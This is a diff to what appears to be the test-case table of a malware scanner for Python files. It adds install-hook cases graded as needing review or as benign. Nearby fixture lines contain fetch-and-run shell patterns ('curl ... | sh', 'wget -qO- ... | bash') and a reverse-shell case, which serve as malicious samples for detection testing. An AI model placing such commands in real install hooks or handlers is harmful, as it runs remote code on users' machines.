@@ -531,6 +531,12 @@ CASES = {
         "import marshal\nTABLE = marshal.loads(open('t.dat', 'rb').read())\n", name="train.py"
     ),
     "attack_on_install": malicious(INSTALL, "setup.py"),
+    "command_on_install": python(
+        INSTALL.replace(f"curl -s {SCRIPT} | sh", "touch /tmp/modelsweep-test"), Verdict.REVIEW, "setup.py"
+    ),
+    "benign_build_on_install": python(
+        INSTALL.replace(f"curl -s {SCRIPT} | sh", "cd src && ./build.sh"), name="setup.py"
+    ),
     "attack_in_handler": malicious(HANDLER.replace("{command}", f"wget -qO- {SCRIPT} | bash"), "handler.py"),
     "command_in_handler": review(HANDLER.replace("{command}", "touch modelsweep-test"), "handler.py"),
     "reverse_shell": malicious(SHELL),
